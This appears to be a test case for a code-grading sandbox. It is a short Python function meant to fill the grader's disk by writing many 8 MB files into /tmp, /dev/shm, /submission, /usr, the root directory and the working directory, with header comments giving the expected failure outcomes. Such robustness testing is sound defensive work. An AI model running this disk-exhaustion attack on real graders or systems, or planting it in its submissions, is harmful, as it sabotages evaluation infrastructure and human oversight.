# Tries: to fill the grader's disk, wherever a file can be written.
# Must happen: the box's own places are full soon, nothing else can be written, the next check has
#   all of them for itself.
# Score: 2
# Outcomes: lurking_treasure=failed|error|killed
import os


def secret():
    for place in ("/tmp", "/dev/shm", "/submission", "/usr", "/var/tmp", "/", os.getcwd()):
        try:
            for number in range(64):
                if number == 20:
                    print("GOT 160 MB in", place)
                with open(f"{place}/attack-was-here-{number}", "wb") as file:
                    file.write(b"x" * (8 << 20))
        except OSError as error:
            print(place, error)
    return 0
